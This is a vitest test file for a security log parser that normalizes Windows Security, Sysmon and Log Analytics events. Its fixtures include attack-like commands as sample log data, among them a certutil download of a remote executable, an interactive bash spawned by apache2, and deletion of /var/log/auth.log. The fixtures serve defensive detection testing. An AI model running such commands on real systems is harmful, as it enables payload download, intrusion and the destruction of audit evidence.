import { describe, expect, it } from 'vitest';
import { securityEventRow } from '../../../../src/threats/parsers/loganalytics/securityevent.ts';
import { decodeXml, parseEventXml } from '../../../../src/threats/parsers/windows/event-xml.ts';
import { emitEventXml } from '../../../../src/threats/parsers/windows/route.ts';
import { collector } from '../helpers.ts';

function xmlEvents(...xml: string[]) {
  const { sink, out } = collector('export.xml');
  for (const [i, x] of xml.entries()) emitEventXml(x, i + 1, sink);
  return out;
}

const system = (id: number, extra = '') =>
  `<System><Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-a5ba-3e3b0328c30d}'/><EventID>${id}</EventID><TimeCreated SystemTime='2024-02-10T08:15:30.1234567Z'/><EventRecordID>1</EventRecordID><Channel>Security</Channel><Computer>dc01.contoso.com</Computer>${extra}</System>`;
const data = (fields: Record<string, string>) =>
  `<EventData>${Object.entries(fields)
    .map(([k, v]) => `<Data Name='${k}'>${v}</Data>`)
    .join('')}</EventData>`;
const event = (id: number, fields: Record<string, string>, extra = '') =>
  `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>${system(id, extra)}${data(fields)}</Event>`;

describe('Windows Security event XML', () => {
  it.each([
    [
      4624,
      {
        TargetUserName: 'alice',
        TargetDomainName: 'CONTOSO',
        TargetUserSid: 'S-1-5-21-1',
        LogonType: '10',
        IpAddress: '::ffff:203.0.113.9',
        IpPort: '3389',
        WorkstationName: 'ATTACKER',
        TargetLogonId: '0x1',
      },
      {
        'event.action': 'logon',
        'event.outcome': 'success',
        'user.name': 'alice',
        'user.domain': 'CONTOSO',
        'user.id': 'S-1-5-21-1',
        'winlog.logon.type': 10,
        'source.ip': '203.0.113.9',
        'source.port': 3389,
        'source.domain': 'ATTACKER',
        'winlog.logon.id': '0x1',
      },
    ],
    [
      4625,
      {
        TargetUserName: 'administrator',
        LogonType: '3',
        IpAddress: '-',
        IpPort: '-',
        FailureReason: '%%2313',
      },
      {
        'event.outcome': 'failure',
        'event.reason': 'Unknown user name or bad password.',
        'source.ip': undefined,
        'source.port': undefined,
        'winlog.logon.type': 3,
      },
    ],
    [4634, { TargetUserName: 'alice', LogonType: '10' }, { 'event.action': 'logoff', 'event.type': ['end'] }],
    [
      4648,
      {
        SubjectUserName: 'alice',
        TargetUserName: 'admin',
        TargetServerName: 'fs01',
        IpAddress: '10.0.0.5',
        ProcessName: 'C:\\Windows\\System32\\runas.exe',
      },
      {
        'event.action': 'explicit_credentials_logon',
        'user.name': 'alice',
        'user.target.name': 'admin',
        'destination.domain': 'fs01',
        'process.name': 'runas.exe',
      },
    ],
    [
      4672,
      { SubjectUserName: 'admin', PrivilegeList: 'SeDebugPrivilege' },
      {
        'event.action': 'special_privileges_assigned',
        'user.name': 'admin',
        'winlog.event_data.PrivilegeList': 'SeDebugPrivilege',
      },
    ],
    [
      4688,
      {
        SubjectUserName: 'alice',
        NewProcessName: 'C:\\Windows\\System32\\certutil.exe',
        NewProcessId: '0x1f40',
        ProcessId: '0x1c20',
        CommandLine: 'certutil -urlcache -f http://x/a.exe a.exe',
        ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
      },
      {
        'event.action': 'process_created',
        'process.name': 'certutil.exe',
        'process.pid': 8000,
        'process.parent.pid': 7200,
        'process.parent.name': 'cmd.exe',
        'process.command_line': 'certutil -urlcache -f http://x/a.exe a.exe',
      },
    ],
    [
      4720,
      { SubjectUserName: 'admin', TargetUserName: 'eve', TargetSid: 'S-1-5-21-9' },
      { 'event.action': 'user_created', 'user.name': 'admin', 'user.target.name': 'eve' },
    ],
    [
      4722,
      { SubjectUserName: 'admin', TargetUserName: 'eve' },
      { 'event.action': 'user_enabled', 'user.target.name': 'eve' },
    ],
    [
      4724,
      { SubjectUserName: 'admin', TargetUserName: 'eve' },
      { 'event.action': 'password_reset', 'user.target.name': 'eve' },
    ],
    [
      4728,
      {
        SubjectUserName: 'admin',
        TargetUserName: 'Domain Admins',
        MemberName: 'CN=Eve\\, Jr,OU=Staff,DC=contoso,DC=com',
        MemberSid: 'S-1-5-21-9',
      },
      {
        'event.action': 'user_added_to_group',
        'group.name': 'Domain Admins',
        'user.target.name': 'Eve\\, Jr',
        'user.target.id': 'S-1-5-21-9',
      },
    ],
    [
      4756,
      { SubjectUserName: 'admin', TargetUserName: 'Universal', MemberName: '-', MemberSid: 'S-1-5-21-9' },
      {
        'event.action': 'user_added_to_group',
        'user.target.name': undefined,
        'user.target.id': 'S-1-5-21-9',
      },
    ],
    [
      4798,
      { SubjectUserName: 'admin', TargetUserName: 'bob' },
      { 'event.action': undefined, 'event.code': '4798', 'user.name': 'admin', 'user.target.name': 'bob' },
    ],
  ])('%i', (id, fields, expected) => {
    const { events, unparsed } = xmlEvents(event(id, fields));
    expect(unparsed).toEqual([]);
    const ev = events[0]!;
    expect(ev).toMatchObject({
      'event.dataset': 'windows.security',
      'event.code': String(id),
      'winlog.event_id': id,
      'host.name': 'dc01.contoso.com',
      '@timestamp': '2024-02-10T08:15:30.123Z',
    });
    for (const [field, value] of Object.entries(expected)) expect(ev[field], field).toEqual(value);
  });

  // An IPv4 client logged in IPv4-mapped form is the same source as one logged plainly, or the brute-force
  // rules' group-by splits one attacker in two; IpAddress keeps what Windows wrote.
  it.each([
    ['::ffff:203.0.113.9', '203.0.113.9'],
    ['::FFFF:203.0.113.9', '203.0.113.9'],
    ['203.0.113.9', '203.0.113.9'],
    ['2001:db8::5', '2001:db8::5'],
    ['::1', '::1'],
    ['::ffff:203.0.113', undefined],
    ['-', undefined],
  ])('4625 from IpAddress %s has source.ip %s', (ip, expected) => {
    const ev = xmlEvents(event(4625, { TargetUserName: 'administrator', LogonType: '3', IpAddress: ip }))
      .events[0]!;
    expect(ev['source.ip']).toEqual(expected);
    expect(ev['winlog.event_data.IpAddress']).toBe(ip);
  });

  it('reads 1102 from UserData and the outcome from the audit keywords', () => {
    const xml = `<Event><System><Provider Name='Microsoft-Windows-Eventlog'/><EventID>1102</EventID><Keywords>0x4020000000000000</Keywords><TimeCreated SystemTime='2024-02-10T08:18:00Z'/><Channel>Security</Channel><Computer>w1</Computer></System><UserData><LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'><SubjectUserName>admin</SubjectUserName><SubjectDomainName>W1</SubjectDomainName><SubjectLogonId/></LogFileCleared></UserData></Event>`;
    expect(xmlEvents(xml).events[0]).toMatchObject({
      'event.action': 'audit_log_cleared',
      'user.name': 'admin',
      'user.domain': 'W1',
      'event.outcome': 'success',
    });
    const failed = `<Event><System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4673</EventID><Keywords>0x8010000000000000</Keywords><TimeCreated SystemTime='2024-02-10T08:18:00Z'/><Channel>Security</Channel></System><EventData/></Event>`;
    expect(xmlEvents(failed).events[0]).toMatchObject({ 'event.outcome': 'failure', 'event.code': '4673' });
  });

  it('reads wevtutil /f:RenderedXml: pretty-printed with CRLF, RenderingInfo after the data, 9 fraction digits', () => {
    const xml = [
      "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>",
      "  <System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID Qualifiers=''>4625</EventID>",
      "    <Keywords>0x8010000000000000</Keywords><TimeCreated SystemTime='2024-03-01T10:00:01.123456700Z' />",
      '    <Channel>Security</Channel><Computer>WIN-SRV01</Computer></System>',
      "  <EventData><Data Name='TargetUserName'>Administrator</Data><Data Name='LogonType'>3</Data>",
      "    <Data Name='IpAddress'>2001:db8::bad:1</Data><Data Name='IpPort'>-</Data></EventData>",
      "  <RenderingInfo Culture='en-US'><Message>An account failed to log on.&#13;&#10;</Message>",
      '    <Channel>Sicherheit</Channel><Keywords><Keyword>Audit Failure</Keyword></Keywords></RenderingInfo>',
      '</Event>',
    ].join('\r\n');
    const { events, unparsed } = xmlEvents(xml);
    expect(unparsed).toEqual([]);
    expect(events[0]).toMatchObject({
      '@timestamp': '2024-03-01T10:00:01.123Z',
      'event.outcome': 'failure',
      'winlog.channel': 'Security',
      'host.name': 'WIN-SRV01',
      'user.name': 'Administrator',
      'winlog.logon.type': 3,
      'source.ip': '2001:db8::bad:1',
    });
    expect(events[0]!['source.port']).toBeUndefined();
  });

  it('decodes entities and reads double-quoted attributes', () => {
    const xml = `<Event><System><Provider Name="Microsoft-Windows-Security-Auditing"/><EventID>4688</EventID><TimeCreated SystemTime="2024-02-10T08:18:00Z"/><Channel>Security</Channel></System><EventData><Data Name="CommandLine">a &amp;&amp; b &lt;c&gt; &quot;d&quot; &#65;&#x42;</Data><Data Name="NewProcessName">C:\\x.exe</Data></EventData></Event>`;
    expect(xmlEvents(xml).events[0]!['process.command_line']).toBe('a && b <c> "d" AB');
  });

  it('reports events of other channels, and XML it cannot read', () => {
    const application = `<Event><System><Provider Name='MsiInstaller'/><EventID>11707</EventID><TimeCreated SystemTime='2024-02-10T08:18:00Z'/><Channel>Application</Channel></System></Event>`;
    expect(
      xmlEvents(
        application,
        '<Event><NoSystem/></Event>',
        `<Event>${application.slice(7, -8).replace('11707', 'x')}</Event>`,
      ).unparsed.map((u) => u.reason),
    ).toEqual([
      'Windows Application events are not read (Security, Sysmon, PowerShell and System are)',
      'event XML without a <System> element',
      'event XML without a numeric <EventID>',
    ]);
  });

  it('decodeXml leaves unknown entities alone', () => {
    expect(decodeXml('a &bogus; &#xZZ; &amp;')).toBe('a &bogus; &#xZZ; &');
  });
});

describe('Sysmon XML', () => {
  const sysmon = (
    provider: string,
    id: number,
    fields: Record<string, string>,
    tail = '</EventData></Event>',
  ) =>
    `<Event><System><Provider Name="${provider}"/><EventID>${id}</EventID><TimeCreated SystemTime="2024-03-03T10:00:00.9Z"/><Computer>web-01</Computer></System><EventData>${Object.entries(
      fields,
    )
      .map(([k, v]) => `<Data Name="${k}">${v}</Data>`)
      .join('')}${tail}`;

  it.each([
    [
      1,
      {
        UtcTime: '2024-03-03 10:00:00.123',
        ProcessId: '42',
        Image: '/usr/bin/bash',
        CommandLine: 'bash -i',
        CurrentDirectory: '/tmp',
        User: 'www-data',
        ParentProcessId: '7',
        ParentImage: '/usr/sbin/apache2',
        ParentCommandLine: 'apache2 -k start',
        Hashes: 'SHA256=AB,MD5=CD',
      },
      {
        'event.action': 'process_created',
        '@timestamp': '2024-03-03T10:00:00.123Z',
        'process.pid': 42,
        'process.name': 'bash',
        'process.working_directory': '/tmp',
        'user.name': 'www-data',
        'process.parent.pid': 7,
        'process.parent.name': 'apache2',
        'process.parent.command_line': 'apache2 -k start',
        'process.hash.sha256': 'AB',
        'process.hash.md5': 'CD',
        'sysmon.CommandLine': 'bash -i',
      },
    ],
    [
      3,
      {
        Image: 'bash',
        ProcessId: '9',
        Protocol: 'tcp',
        Initiated: 'true',
        SourceIp: '192.168.2.5',
        SourcePort: '39634',
        DestinationIp: '192.168.2.6',
        DestinationPort: '443',
        DestinationHostname: '-',
      },
      {
        'event.action': 'network_connection',
        'network.direction': 'egress',
        'network.transport': 'tcp',
        'source.ip': '192.168.2.5',
        'destination.ip': '192.168.2.6',
        'destination.port': 443,
        'destination.domain': undefined,
        '@timestamp': '2024-03-03T10:00:00.900Z',
      },
    ],
    [
      11,
      { Image: '/usr/bin/curl', TargetFilename: '/tmp/x.sh' },
      { 'event.action': 'file_created', 'file.path': '/tmp/x.sh' },
    ],
    [
      23,
      { Image: '/usr/bin/rm', TargetFilename: '/var/log/auth.log' },
      { 'event.action': 'file_deleted', 'file.path': '/var/log/auth.log' },
    ],
  ])('Linux event %i', (id, fields, expected) => {
    const ev = xmlEvents(sysmon('Linux-Sysmon', id, fields)).events[0]!;
    expect(ev).toMatchObject({
      'event.dataset': 'linux.sysmon',
      'event.code': String(id),
      'host.name': 'web-01',
    });
    for (const [field, value] of Object.entries(expected)) expect(ev[field], field).toEqual(value);
  });

  it('reads Windows Sysmon into windows.sysmon, with DOMAIN\\user and registry fields', () => {
    const ev = xmlEvents(
      sysmon('Microsoft-Windows-Sysmon', 13, {
        Image: 'C:\\evil.exe',
        TargetObject: 'HKLM\\Run\\x',
        Details: 'C:\\evil.exe',
        User: 'CONTOSO\\bob',
      }),
    ).events[0]!;
    expect(ev).toMatchObject({
      'event.dataset': 'windows.sysmon',
      'registry.path': 'HKLM\\Run\\x',
      'user.name': 'bob',
      'user.domain': 'CONTOSO',
    });
  });

  it('keeps what precedes a cut (a syslog transport truncated the XML) and says so', () => {
    const cut = sysmon(
      'Linux-Sysmon',
      1,
      { UtcTime: '2024-03-03 10:00:00.123', Image: '/bin/bash', CommandLine: 'bash -c x' },
      '<Data Name="ParentCommandLine">java -jar app',
    );
    expect(parseEventXml(cut)).toMatchObject({
      truncated: true,
      data: { ParentCommandLine: 'java -jar app' },
    });
    expect(xmlEvents(cut).events[0]).toMatchObject({
      'log.truncated': true,
      'process.command_line': 'bash -c x',
      'process.parent.command_line': 'java -jar app',
    });
  });
});

describe('Log Analytics SecurityEvent rows', () => {
  it('maps columns as EventData and leaves the envelope out', () => {
    const row = {
      TimeGenerated: '2019-01-15 05:15:06.363',
      Computer: 'MSTICAlertsWin1',
      EventID: 4624,
      Account: 'X\\adm1nistrator',
      TargetUserName: 'adm1nistrator',
      LogonType: 3,
      IpAddress: 'fe80::38dc:e4a9:61bd:b458',
      TenantId: 't',
      Type: 'SecurityEvent',
      SubStatus: '',
      EventData: null,
    };
    const ev = securityEventRow(row, 'orig', 'f.json', 3);
    expect(ev).toMatchObject({
      'event.action': 'logon',
      '@timestamp': '2019-01-15T05:15:06.363Z',
      'user.name': 'adm1nistrator',
      'source.ip': 'fe80::38dc:e4a9:61bd:b458',
      'winlog.logon.type': 3,
      'winlog.event_data.LogonType': '3',
      'log.file.line': 3,
    });
    expect(
      Object.keys(ev as object)
        .filter((k) => k.startsWith('winlog.event_data.'))
        .sort(),
    ).toEqual([
      'winlog.event_data.IpAddress',
      'winlog.event_data.LogonType',
      'winlog.event_data.TargetUserName',
    ]);
  });

  it('reads fields kept as XML in the EventData column', () => {
    const row = {
      TimeGenerated: '2024-01-01T00:00:00Z',
      Computer: 'w',
      EventID: '1102',
      EventData:
        '<UserData xmlns="x"><LogFileCleared><SubjectUserName>admin</SubjectUserName></LogFileCleared></UserData>',
    };
    expect(securityEventRow(row, 'o', 'f', 1)).toMatchObject({
      'event.action': 'audit_log_cleared',
      'user.name': 'admin',
    });
  });

  it.each([
    [{ TimeGenerated: '2024-01-01T00:00:00Z' }, 'SecurityEvent row without a numeric EventID'],
    [{ EventID: 4624, TimeGenerated: 'soon' }, 'SecurityEvent row without a valid TimeGenerated'],
  ])('%j: %s', (row, reason) => {
    expect(securityEventRow(row, 'o', 'f', 1)).toBe(reason);
  });
});
